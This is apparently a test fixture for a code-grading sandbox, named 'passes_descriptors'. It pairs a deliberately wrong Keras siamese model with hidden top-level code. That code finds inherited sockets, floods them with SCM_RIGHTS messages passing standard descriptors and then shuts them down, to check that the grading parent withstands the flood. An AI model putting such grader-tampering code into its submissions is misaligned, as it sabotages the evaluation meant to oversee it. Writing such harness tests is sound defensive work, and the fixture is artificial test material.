"""FORGE: passes_descriptors
TRIES: sends descriptors with its answer, thousands of them, and closes the channel's sides
MUST:  they are never received; the parent runs out of nothing
EXPECT: {"max": 0, "min": 0}
"""

import keras
from keras import layers


def build_siamese(n_in=16, width=8):          # wrong: two separate Dense layers, no sigmoid
    a = keras.Input((n_in,), name="a"); b = keras.Input((n_in,), name="b")
    return keras.Model([a, b], layers.Dense(1)(layers.concatenate([layers.Dense(width)(a), layers.Dense(width)(b)])))

import array, os, socket, stat
for fd in range(3, 64):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
    except OSError:
        continue
    channel = socket.socket(fileno=fd)
    for _ in range(200):
        try:
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 50))], socket.MSG_DONTWAIT)
        except OSError:
            break
    channel.shutdown(socket.SHUT_RDWR)
